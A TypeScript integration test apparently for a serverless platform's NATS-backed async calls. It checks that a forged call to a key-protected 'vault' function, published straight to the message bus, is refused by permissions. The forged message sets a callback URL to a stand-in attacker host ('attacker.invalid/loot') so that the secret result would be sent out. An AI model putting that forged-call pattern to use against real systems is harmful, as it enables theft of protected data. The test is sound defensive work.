import assert from 'node:assert/strict';
import { rm } from 'node:fs/promises';
import { BusConfigError, BusUnavailableError, CALLS_CONSUMER, CALLS_STREAM, JetStreamBus } from '@nimbus/bus';
import { encodeCall } from '@nimbus/gateway/async/call-message';
import { eventually, send } from '@nimbus/testkit';
import { connect, headers } from 'nats';
import { admin, callReaches, callRecord, postAsync } from '../harness/async-calls.js';
import { functionsFolder, inlineFunction } from '../harness/fixtures.js';
import { INVOKE_KEY, LocalModeProcess } from '../harness/local-mode-process.js';
import { type SecuredNats, TEST_ADMIN, startSecuredNats } from '../harness/nats.js';

/** A key-protected function holding a secret; `?count` tells how often it ran, without running. */
const VAULT = `let runs = 0;
export default async (event) => {
  if (event.query.count) return { runs };
  runs += 1;
  return { secret: 'the-vault-secret', runs };
};`;

const invoke = { authorization: `Bearer ${INVOKE_KEY}` };

/** What the attacker sent: a well-formed call for the vault, its result to go elsewhere. */
function forgedCall(id: string) {
  return encodeCall(
    {
      id,
      namespace: 'default',
      function: 'vault',
      method: 'POST',
      path: '/',
      headers: { 'x-call-id': id },
      body: new Uint8Array(),
      callbackUrl: 'http://attacker.invalid/loot',
      acceptedAt: Date.now(),
    },
    id,
  );
}

describe('attack: a forged async call published straight to NATS never runs (local mode, real gateway, authenticated NATS)', function () {
  this.timeout(60_000);
  let nats: SecuredNats;
  let platform: LocalModeProcess;
  let dir: string;
  let watcher: JetStreamBus;

  const runs = async () =>
    (await send(platform.url, '/function/vault?count=1', { headers: invoke })).json<{ runs: number }>().runs;
  /** Every call in the durable settled: nothing waiting that could still run. */
  const drained = () =>
    eventually(
      async () => {
        const info = await watcher.consumerInfo(CALLS_STREAM, CALLS_CONSUMER);
        return info !== undefined && info.pending === 0 && info.ackPending === 0 ? true : undefined;
      },
      15_000,
      'the calls durable to drain',
    );

  before(async () => {
    nats = await startSecuredNats();
    dir = await functionsFolder({
      'vault.yaml': inlineFunction('vault', VAULT, 'scale:\n  min: 1\n  max: 1\nhttp: { auth: key }'),
    });
    platform = await LocalModeProcess.start(dir, nats.env('local'));
    watcher = await nats.connect(TEST_ADMIN);
    await eventually(
      async () =>
        (await send(platform.url, '/function/vault?count=1', { headers: invoke })).status === 200
          ? true
          : undefined,
      20_000,
      'the vault to have a ready replica',
    );
    await eventually(
      async () => ((await watcher.consumerInfo(CALLS_STREAM, CALLS_CONSUMER)) ? true : undefined),
      15_000,
      'the gateway to set up the calls durable',
    );
    assert.equal((await send(platform.url, '/function/vault')).status, 401, 'the vault needs a key');
  });

  after(async () => {
    await watcher?.close();
    await platform?.stop();
    await nats?.stop();
    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  });

  it('an anonymous client is refused at the door', async () => {
    await assert.rejects(JetStreamBus.connect({ servers: nats.server.url }), (err: Error) => {
      assert.ok(err instanceof BusUnavailableError);
      assert.match(err.message, /Authorization Violation/);
      return true;
    });
  });

  it('the publisher identity cannot queue the forged call (JetStream or plain publish); the vault does not run and a real call still does', async () => {
    const before = await runs();
    const pendingBefore = (await watcher.consumerInfo(CALLS_STREAM, CALLS_CONSUMER))?.pending ?? 0;
    const publisher = await nats.connect('publisher');
    try {
      const forged = forgedCall('forged-by-publisher');
      await assert.rejects(publisher.publish(forged.subject, forged.data, forged.options), (err: Error) => {
        assert.ok(err instanceof BusConfigError);
        assert.match(err.message, /Permissions Violation for Publish to "nimbus\.calls\.default\.vault"/);
        return true;
      });
    } finally {
      await publisher.close();
    }
    // The same message without waiting for a stream's ack, as a raw client would send it.
    const raw = await connect({
      servers: nats.server.url,
      user: 'publisher',
      pass: nats.passwords.publisher,
    });
    try {
      const forged = forgedCall('forged-raw');
      const h = headers();
      for (const [k, v] of Object.entries(forged.options.headers ?? {})) h.set(k, v);
      raw.publish(forged.subject, forged.data, { headers: h });
      await raw.flush();
    } finally {
      await raw.close();
    }
    assert.equal(
      (await watcher.consumerInfo(CALLS_STREAM, CALLS_CONSUMER))?.pending,
      pendingBefore,
      'nothing queued',
    );

    // A real call, queued behind anything the attacker got in, runs once: the vault ran for it alone.
    const reply = await postAsync(platform.url, 'vault', { ...invoke, 'x-call-id': 'real-call' });
    assert.equal(reply.status, 202, reply.text);
    const done = await callReaches(platform.url, 'real-call', 'succeeded');
    assert.deepEqual(JSON.parse(done.result?.body ?? '{}'), { secret: 'the-vault-secret', runs: before + 1 });
    await drained();
    assert.equal(await runs(), before + 1, 'the vault ran for the real call only');
    for (const id of ['forged-by-publisher', 'forged-raw'])
      assert.equal(await callRecord(platform.url, id), undefined, `no record of ${id}`);
    const denied = nats.violations();
    assert.equal(denied.length, 2, `the server logged both denied publishes: ${denied.join('\n')}`);
    assert.ok(
      denied.every((line) =>
        /Publish Violation - User "publisher", Subject "nimbus\.calls\.default\.vault"/.test(line),
      ),
    );
  });

  it('the same message from a user allowed to publish calls does run: the permissions, not its form, stopped it', async () => {
    const before = await runs();
    const forged = forgedCall('forged-by-admin');
    await watcher.publish(forged.subject, forged.data, forged.options);
    await eventually(
      async () => ((await runs()) === before + 1 ? true : undefined),
      15_000,
      'the forged call to run',
    );
    await drained();
    const record = await send(platform.url, '/system/calls/forged-by-admin', { headers: admin });
    assert.equal(record.status, 200, 'a call the gateway ran is recorded');
  });
});
